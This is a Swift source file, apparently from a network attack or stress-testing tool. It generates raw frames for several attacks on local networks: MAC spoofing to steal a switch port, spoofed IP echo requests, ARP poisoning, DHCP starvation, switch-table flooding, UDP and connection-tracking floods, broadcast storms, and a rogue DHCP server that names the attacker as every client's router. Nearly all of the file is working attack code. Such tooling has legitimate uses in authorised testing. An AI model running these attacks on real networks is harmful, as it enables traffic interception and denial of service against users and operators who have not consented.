import WeftCore
import WeftSettings
import WeftStack
import WeftWire

// The frames of each kind of attack.

extension Attack {
  /// Sends the next; false where what it needs isn't known yet.
  func attack(now: Instant, _ stack: inout Stack, _ out: inout Effects) -> Bool {
    switch settings.kind {
    case .macSpoof: stealPort(now: now, &stack, &out)
    case .ipSpoof: sendInItsName(now: now, &stack, &out)
    case .arpSpoof: claim(now: now, &stack, &out)
    case .dhcpStarvation: discover(&stack, &out)
    case .fdbFlood: sendFromAnybody(&stack, &out)
    case .packetFlood: sendDatagram(from: 9, to: 9, now: now, &stack, &out)
    case .conntrackFlood:
      // 1024–65535 from each, then on to the next port there.
      sendDatagram(
        from: 1024 + UInt16(report.requests % 64_512), to: 9 + UInt16(truncatingIfNeeded: report.requests / 64_512 % 1000),
        now: now, &stack, &out)
    case .broadcastStorm: shout(&stack, &out)
    case .rogueDHCP: false
    }
  }

  /// A frame without preamble and FCS: 64 octets with it, the shortest that there is.
  private static let shortest = 60
  /// IEEE's for local experiments: nobody takes it.
  private static let experimental = EtherType(rawValue: 0x88b5)

  /// Where a neighbour is. One that isn't known is asked, and answers by and by.
  private func find(_ target: Target?, now: Instant, _ stack: inout Stack, _ out: inout Effects)
    -> (address: IPv4Address, mac: MACAddress, interface: Int)?
  {
    guard let address = target?.address, let interface = stack.interface(to: address) else { return nil }
    if let mac = stack.mac(of: address) { return (address, mac, interface) }
    // The stack asks for whomever it is to send something; again while it isn't asking already.
    let isAsking = stack.neighbourTable(of: interface, now: now).contains { $0.address == address }
    if !isAsking { _ = sendDatagram(to: address, from: 9, to: 9, now: now, &stack, &out) }
    return nil
  }

  /// To itself, so that nobody hears it but the switch, which learns the sender first.
  private func stealPort(now: Instant, _ stack: inout Stack, _ out: inout Effects) -> Bool {
    guard let victim = find(settings.victim, now: now, &stack, &out), let own = stack.mac(of: victim.interface) else {
      return false
    }
    stack.sendFrame(on: victim.interface, length: Self.shortest, &out) { span, _ in
      span.fill()
      EthernetHeader(destination: own, source: victim.mac, type: Self.experimental).write(to: &span)
    }
    return true
  }

  private func sendInItsName(now: Instant, _ stack: inout Stack, _ out: inout Effects) -> Bool {
    guard let victim = settings.victim?.address, let listener = find(settings.listener, now: now, &stack, &out),
      let own = stack.mac(of: listener.interface)
    else { return false }
    let number = UInt16(truncatingIfNeeded: report.requests)
    stack.sendFrame(on: listener.interface, length: Self.shortest, &out) { span, _ in
      span.fill()
      EthernetHeader(destination: listener.mac, source: own, type: .ipv4).write(to: &span)
      var echo = span.slice(34..<60)
      ICMPv4Header.echo(.echoRequest, identifier: 0x5f0f, sequence: number).write(to: &echo)
      var packet = span.slice(14..<60)
      IPv4Header(protocol: .icmp, source: victim, destination: listener.address).write(to: &packet, payloadLength: 26)
    }
    return true
  }

  private func claim(now: Instant, _ stack: inout Stack, _ out: inout Effects) -> Bool {
    guard let victim = settings.victim?.address, let interface = stack.interface(to: victim),
      let own = stack.mac(of: interface)
    else { return false }
    var packet = ARPPacket.request(from: own, victim, for: victim)
    var destination = MACAddress.broadcast
    if settings.listener != nil {
      guard let listener = find(settings.listener, now: now, &stack, &out) else { return false }
      packet = ARPPacket(
        operation: .reply, senderMAC: own, senderIP: victim, targetMAC: listener.mac, targetIP: listener.address)
      destination = listener.mac
    }
    stack.sendFrame(on: interface, length: Self.shortest, &out) { span, _ in
      span.fill()
      EthernetHeader(destination: destination, source: own, type: .arp).write(to: &span)
      var body = span.slice(14..<42)
      packet.write(to: &body)
    }
    return true
  }

  private func sendFromAnybody(_ stack: inout Stack, _ out: inout Effects) -> Bool {
    stack.sendFrame(length: Self.shortest, &out) { span, random in
      span.fill()
      // Local ones, of one machine each.
      let (destination, source) = (MACAddress.local(random.next()), MACAddress.local(random.next()))
      EthernetHeader(destination: destination, source: source, type: Self.experimental).write(to: &span)
    }
    return true
  }

  private func sendDatagram(from: UInt16, to: UInt16, now: Instant, _ stack: inout Stack, _ out: inout Effects) -> Bool {
    guard let address = settings.victim?.address else { return false }
    return sendDatagram(to: address, from: from, to: to, now: now, &stack, &out)
  }

  private func sendDatagram(
    to address: IPv4Address, from: UInt16, to: UInt16, now: Instant, _ stack: inout Stack, _ out: inout Effects
  ) -> Bool {
    stack.sendRaw(.udp, to: address, length: Self.shortest - 34, now: now, &out) { span, source, _ in
      span.fill()
      UDPHeader(sourcePort: from, destinationPort: to).write(to: &span, source: source, destination: address)
    }
  }

  private func shout(_ stack: inout Stack, _ out: inout Effects) -> Bool {
    guard let own = stack.mac(of: 0), let source = stack.address(of: 0) else { return false }
    stack.sendFrame(length: Self.shortest, &out) { span, _ in
      span.fill()
      EthernetHeader(destination: .broadcast, source: own, type: .ipv4).write(to: &span)
      Self.write(&span, from: source, 9, to: .broadcast, 9)
    }
    return true
  }

  /// UDP over IPv4 behind the Ethernet header, over a payload that is there already.
  private static func write(
    _ span: inout MutableRawSpan, from source: IPv4Address, _ port: UInt16, to destination: IPv4Address, _ other: UInt16
  ) {
    let end = span.byteCount
    var datagram = span.slice(34..<end)
    UDPHeader(sourcePort: port, destinationPort: other).write(to: &datagram, source: source, destination: destination)
    var packet = span.slice(14..<end)
    IPv4Header(protocol: .udp, source: source, destination: destination).write(to: &packet, payloadLength: end - 34)
  }

  // MARK: DHCP

  /// Under its own MAC address on the wire, as port security would see another.
  private func discover(_ stack: inout Stack, _ out: inout Effects) -> Bool {
    guard let own = stack.mac(of: 0) else { return false }
    let message = DHCPMessage(
      isReply: false, kind: .discover, transaction: UInt32(truncatingIfNeeded: stack.random.next()),
      clientMAC: .local(stack.random.next()))
    Self.send(message, from: own, .any, DHCPMessage.clientPort, to: DHCPMessage.serverPort, &stack, &out)
    return true
  }

  /// Answers a client: everything goes by way of the attacker. False where there is nothing to say.
  func offer(_ message: DHCPMessage, _ stack: inout Stack, _ out: inout Effects) -> Bool {
    guard let own = stack.mac(of: 0), let address = stack.address(of: 0), let prefix = stack.network(of: 0)?.prefix,
      message.clientMAC != own
    else { return false }
    let kind: DHCPMessage.Kind
    switch message.kind {
    case .discover: kind = .offer
    case .request where message.serverIdentifier == address: kind = .ack
    case .request, .offer, .decline, .ack, .nak, .release, .inform: return false
    }
    var answer = DHCPMessage(isReply: true, kind: kind, transaction: message.transaction, clientMAC: message.clientMAC)
    // From the upper half of the subnet, by the client's MAC address: who asks again gets the same.
    let size = UInt32(clamping: prefix.hostCount)
    let place = size / 2 + UInt32(truncatingIfNeeded: message.clientMAC.rawValue % UInt64(max(size / 2, 1)))
    answer.yourAddress = IPv4Address(rawValue: prefix.network.rawValue + max(place, 1))
    answer.serverIdentifier = address
    answer.router = address
    answer.subnetMask = IPv4Address(rawValue: ~UInt32(0) << UInt32(32 - Int(prefix.length)))
    answer.leaseTime = 3600
    Self.send(answer, from: own, address, DHCPMessage.serverPort, to: DHCPMessage.clientPort, &stack, &out)
    return true
  }

  private static func send(
    _ message: DHCPMessage, from mac: MACAddress, _ source: IPv4Address, _ port: UInt16, to other: UInt16,
    _ stack: inout Stack, _ out: inout Effects
  ) {
    let payload = message.bytes
    stack.sendFrame(length: 42 + payload.count, &out) { span, _ in
      EthernetHeader(destination: .broadcast, source: mac, type: .ipv4).write(to: &span)
      span.put(payload.span.bytes, at: 42)
      write(&span, from: source, port, to: .broadcast, other)
    }
  }
}

extension MutableRawSpan {
  /// With zeros: no byte of a frame is left to what was in its slot before.
  fileprivate mutating func fill() { for index in 0..<byteCount { put(0 as UInt8, at: index) } }
}
